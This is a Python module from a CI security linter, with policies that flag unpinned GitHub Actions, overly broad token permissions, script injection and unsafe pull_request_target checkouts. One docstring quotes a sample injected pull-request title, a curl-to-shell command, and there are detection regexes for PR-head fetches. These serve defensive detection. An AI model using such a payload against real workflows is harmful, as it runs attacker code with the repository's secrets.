"""GitHub Actions safety: pinned actions, least permissions, no script injection, no unsafe
``pull_request_target``. Workflows and composite actions (``action.yml``)."""

from __future__ import annotations

import fnmatch
from collections.abc import Iterator
from typing import Any

from linter.ci import Command, Pipeline, from_yaml, untrusted_contexts
from linter.lazyre import lazy
from linter.model import ArtifactKind, Confidence, Finding, Severity
from linter.parsers.yaml import YamlFile
from linter.policy import CheckContext, policy
from linter.positions import key_loc, value_loc

K = ArtifactKind
GHA_KINDS = {K.GHA_WORKFLOW, K.GHA_ACTION}
SHA_RE = lazy(r"^[0-9a-f]{40}$")
PR_HEAD_RE = lazy(
    r"github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)"
    r"|github\.head_ref"
    r"|github\.event\.pull_request\.merge_commit_sha"
    r"|github\.event\.workflow_run\.head_(?:sha|branch|repository\.full_name)"
    r"|refs/pull/"
    r"|github\.event\.(?:number|pull_request\.number)"
)
PR_CHECKOUT_CMD = lazy(
    r"gh\s+pr\s+checkout\b|git\s+fetch\b[^\n]*\bpull/|git\s+(?:checkout|switch)\b[^\n]*\$\{\{[^}]*"
    r"(?:pull_request\.head|head_ref|workflow_run\.head)"
)


def _split_uses(ref: str) -> tuple[str, str | None]:
    """``owner/repo/path@ref`` → (``owner/repo/path``, ref or None)."""
    name, sep, version = ref.partition("@")
    return name, (version if sep else None)


@policy(
    id="gha-action-not-pinned",
    kinds=GHA_KINDS,
    severity=Severity.MEDIUM,
    summary="Third-party action or reusable workflow not pinned to a commit SHA",
    fix="Pin to the full 40-character commit SHA and keep the version in a comment: "
    "`uses: owner/action@<sha> # v1.2.3` (Dependabot and Renovate update both).",
    tags=("security", "supply-chain", "ci"),
    cwe=(829,),
    section="Deployment and testing",
    options={
        "type": "object",
        "properties": {
            "exempt": {
                "type": "array",
                "items": {"type": "string"},
                "description": "owner/repo patterns (fnmatch) allowed to use a tag or branch; "
                "set to [] to require SHAs for GitHub's own `actions/*` too.",
            }
        },
    },
    # GitHub-owned actions are exempt like in zizmor's default policy; the SLSA generator must be
    # called by tag (it verifies its own ref)
    defaults={
        "exempt": [
            "actions/*",
            "github/*",
            "dependabot/*",
            "slsa-framework/slsa-github-generator",
        ]
    },
)
def action_not_pinned(ctx: CheckContext, yf: YamlFile) -> Iterator[Finding]:
    """## What it does
    Reports `uses:` references (steps, composite-action steps and reusable-workflow calls) that
    are not pinned to a 40-character commit SHA. Local actions (`./…`) and
    `docker://image@sha256:…` pass; `docker://image:tag` fails. GitHub's own `actions/*` are
    exempt by default, as are the other GitHub-owned `github/*` and `dependabot/*` (option
    `exempt`; set it to `[]` to require SHAs everywhere), and
    `slsa-framework/slsa-github-generator`, whose reusable workflows must be called by tag (they
    verify their own ref).

    ## Why is this bad
    Tags and branches are mutable: whoever controls the action's repository (or steals its
    maintainer's token, as in the tj-actions/changed-files compromise) changes what runs in your
    pipeline, with your secrets and your `GITHUB_TOKEN`.

    ## Example
    ```yaml
    - uses: tj-actions/changed-files@v44            # fails
    - uses: tj-actions/changed-files@2f7c5bfce28377bc069a65ba478de0a74aa0ca32  # v44.5.5
    ```
    """
    exempt = [str(p) for p in ctx.options.get("exempt", ())]
    seen: set[tuple[int, int]] = set()  # a step shared through a YAML alias is reported once
    for pipe in from_yaml(yf):
        for cmd in pipe.commands:
            if cmd.kind != "uses" or (cmd.loc.start_line, cmd.loc.start_col) in seen:
                continue
            seen.add((cmd.loc.start_line, cmd.loc.start_col))
            ref = cmd.text
            if ref.startswith(("./", ".\\")) or "${{" in ref:
                continue
            if ref.startswith("docker://"):
                if "@sha256:" not in ref:
                    yield ctx.finding(
                        cmd.loc, f"Docker action `{ref}` is not pinned to an image digest."
                    )
                continue
            name, version = _split_uses(ref)
            owner_repo = "/".join(name.split("/")[:2])
            if version is not None and SHA_RE.match(version):
                continue
            if any(fnmatch.fnmatchcase(owner_repo, pat) for pat in exempt):
                continue
            if version is None:
                msg = f"Action `{ref}` has no version at all; pin it to a commit SHA."
            else:
                msg = f"Action `{ref}` is pinned to the mutable ref `{version}`, not a commit SHA."
            yield ctx.finding(cmd.loc, msg)


def _write_scopes(perms: Any) -> list[str]:
    if not isinstance(perms, dict):
        return []
    return [str(k) for k, v in perms.items() if str(v).strip() == "write"]


@policy(
    id="gha-permissions-too-broad",
    kinds={K.GHA_WORKFLOW},
    severity=Severity.MEDIUM,
    summary="Workflow token permissions are not restricted (no `permissions:` or `write-all`)",
    fix="Set `permissions: contents: read` at the top of the workflow and grant write scopes "
    "only on the jobs that need them.",
    tags=("security", "ci"),
    cwe=(250,),
    section="Deployment and testing",
)
def permissions_too_broad(ctx: CheckContext, yf: YamlFile) -> Iterator[Finding]:
    """## What it does
    Reports a workflow that leaves the `GITHUB_TOKEN` permissions at the repository default
    (no top-level `permissions:` while some job has none either), every `permissions: write-all`,
    and write scopes granted at workflow level when the workflow has more than one job. A
    workflow only triggered by `workflow_call` inherits its caller's permissions and is not
    reported for missing `permissions:`.

    ## Why is this bad
    The default token of older repositories and organizations can write contents, packages and
    releases. Any step that is compromised (a script injection, a hijacked action) gets all of it.

    ## Example
    ```yaml
    on: push
    jobs:              # fails: no permissions anywhere
      test: {runs-on: ubuntu-latest, steps: [{run: make test}]}
    ```
    ```yaml
    permissions:
      contents: read   # passes
    ```
    """
    for pipe in from_yaml(yf):
        if pipe.kind != K.GHA_WORKFLOW:
            continue
        src = pipe.source
        top = pipe.data.get("permissions")
        if isinstance(top, str) and top.strip() == "write-all":
            loc = value_loc(src, pipe.data, "permissions", "permissions") or pipe.anchor
            yield ctx.finding(loc, "Workflow grants `write-all` permissions to every job.")
        for job in pipe.gha_jobs:
            perms = job.data.get("permissions")
            if isinstance(perms, str) and perms.strip() == "write-all":
                loc = value_loc(src, job.data, "permissions", f"jobs.{job.id}") or job.key_loc()
                yield ctx.finding(loc, f"Job `{job.id}` grants `write-all` permissions.")
        if top is None and pipe.gha_jobs and pipe.triggers() != {"workflow_call"}:
            bare = [j.id for j in pipe.gha_jobs if j.data.get("permissions") is None]
            if bare:
                names = ", ".join(f"`{b}`" for b in bare[:5])
                yield ctx.finding(
                    pipe.anchor,
                    f"No `permissions:` block: job(s) {names} run with the repository's "
                    "default token permissions.",
                )
        if isinstance(top, dict) and len(pipe.gha_jobs) > 1:
            for scope in _write_scopes(top):
                loc = key_loc(src, top, scope, "permissions") or pipe.anchor
                yield ctx.finding(
                    loc,
                    f"Workflow-level `{scope}: write` applies to all {len(pipe.gha_jobs)} jobs; "
                    "grant it only on the job that needs it.",
                    confidence=Confidence.MEDIUM,
                )


def _script_commands(pipe: Pipeline) -> Iterator[Command]:
    for cmd in pipe.commands:
        if cmd.kind == "run":
            yield cmd
    for step in pipe.gha_steps:
        uses = step.uses or ""
        if uses.split("@")[0].lower() == "actions/github-script":
            w = step.with_inputs
            script = w.get("script")
            if isinstance(script, str):
                loc = key_loc(step.source, w, "script", step.logical + ".with") or step.item_loc()
                yield Command(script, "run", step.source, loc, step.job, step.data)


@policy(
    id="gha-script-injection",
    kinds=GHA_KINDS,
    severity=Severity.HIGH,
    summary="Attacker-controlled GitHub context expanded inside a script",
    fix="Pass the value through an environment variable and quote it: "
    '`env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"`.',
    tags=("security", "ci"),
    cwe=(78, 94),
    section="Deployment and testing",
)
def script_injection(ctx: CheckContext, yf: YamlFile) -> Iterator[Finding]:
    """## What it does
    Reports `${{ … }}` expressions in `run:` scripts (workflows and composite actions) and in
    `actions/github-script` `script:` inputs that read attacker-controlled contexts: issue, pull
    request, discussion and comment titles and bodies, commit messages and author names, branch
    names (`github.head_ref`, `github.event.pull_request.head.ref`,
    `github.event.workflow_run.head_branch`), page names.

    ## Why is this bad
    Expressions are pasted into the script before the shell (or JavaScript) runs it. A pull
    request titled `"; curl evil.sh | sh; #` executes in your runner, with your secrets.

    ## Example
    ```yaml
    - run: echo "${{ github.event.pull_request.title }}"     # fails
    - env:
        TITLE: ${{ github.event.pull_request.title }}
      run: echo "$TITLE"                                       # passes
    ```
    """
    seen: set[tuple[int, int]] = set()  # a step shared through a YAML alias is reported once
    for pipe in from_yaml(yf):
        for cmd in _script_commands(pipe):
            counts: dict[str, int] = {}
            for expr, context in untrusted_contexts(cmd.text):
                nth = counts.get(expr, 0)
                counts[expr] = nth + 1
                loc = cmd.locate(expr, nth)
                if (loc.start_line, loc.start_col) in seen:
                    continue
                seen.add((loc.start_line, loc.start_col))
                yield ctx.finding(
                    loc,
                    f"`{context}` is attacker-controlled and expanded directly into a script.",
                )


@policy(
    id="gha-unsafe-pull-request-target",
    kinds={K.GHA_WORKFLOW},
    severity=Severity.HIGH,
    summary="`pull_request_target`/`workflow_run` workflow checks out the pull request's code",
    fix="Use `pull_request` for building untrusted code; if `pull_request_target` is needed, "
    "never check out or run the PR head in it (or split it into an unprivileged `pull_request` "
    "workflow and a privileged `workflow_run` one that only reads artifacts).",
    tags=("security", "ci"),
    cwe=(829,),
    section="Deployment and testing",
)
def unsafe_pull_request_target(ctx: CheckContext, yf: YamlFile) -> Iterator[Finding]:
    """## What it does
    In workflows triggered by `pull_request_target` or `workflow_run`, reports
    `actions/checkout` steps whose `ref:` (or `repository:`) points at the pull request head
    (`github.event.pull_request.head.sha`, `github.head_ref`, `refs/pull/…`,
    `github.event.workflow_run.head_sha`, …) and `run:` steps that fetch it (`gh pr checkout`,
    `git fetch origin pull/…`, `git checkout ${{ github.event.pull_request.head.sha }}`).

    ## Why is this bad
    These triggers run in the context of the base repository, with its secrets and a write
    token. Checking out the fork's code and building or testing it ("pwn request") lets any
    outside contributor run code with those privileges.

    ## Example
    ```yaml
    on: pull_request_target
    jobs:
      test:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.pull_request.head.sha }}   # fails
    ```
    """
    for pipe in from_yaml(yf):
        events = pipe.triggers() & {"pull_request_target", "workflow_run"}
        if pipe.kind != K.GHA_WORKFLOW or not events:
            continue
        event = sorted(events)[0]
        for step in pipe.gha_steps:
            uses = (step.uses or "").split("@")[0].lower()
            if uses == "actions/checkout":
                w = step.with_inputs
                for key in ("ref", "repository"):
                    value = w.get(key)
                    if isinstance(value, str) and PR_HEAD_RE.search(value):
                        loc = value_loc(step.source, w, key, step.logical + ".with")
                        yield ctx.finding(
                            loc or step.key_loc("uses"),
                            f"`{event}` workflow checks out the pull request head "
                            f"(`{key}: {value.strip()}`), running untrusted code with secrets.",
                        )
                        break
            if step.run is not None:
                m = PR_CHECKOUT_CMD.search(step.run)
                if m:
                    cmd = Command(step.run, "run", step.source, step.key_loc("run"), step.job)
                    frag = m.group(0).splitlines()[0]
                    yield ctx.finding(
                        cmd.locate(frag),
                        f"`{event}` workflow fetches the pull request head (`{frag.strip()}`), "
                        "running untrusted code with secrets.",
                    )
